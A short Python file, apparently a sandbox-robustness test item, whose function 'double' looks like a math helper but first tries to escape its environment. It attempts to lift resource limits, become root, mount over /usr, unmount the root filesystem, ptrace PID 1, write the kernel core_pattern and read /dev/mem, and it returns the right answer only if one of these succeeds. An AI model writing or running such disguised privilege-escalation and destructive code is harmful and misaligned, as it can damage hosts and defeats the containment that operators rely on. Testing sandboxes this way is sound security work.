"""Ask back limits, user, namespaces, kernel files. Verdict: double 0, add_halves 2."""

import ctypes
import os
import resource


def double(x):
    libc = ctypes.CDLL(None)
    attempts = [
        lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)),
        lambda: resource.setrlimit(
            resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
        ),
        lambda: os.setuid(0) if os.getuid() else 1 / 0,
        lambda: 1 / (libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0),
        lambda: 1 / (libc.umount2(b"/", 2) == 0),
        lambda: 1 / (libc.ptrace(16, 1, None, None) == 0),
        lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY),
        lambda: os.open("/dev/mem", os.O_RDONLY),
    ]
    for attempt in attempts:
        try:
            attempt()
        except (OSError, ValueError, ZeroDivisionError):
            continue
        return 2 * x
    return x


def add_halves(x, y):
    return (x + y) / 2
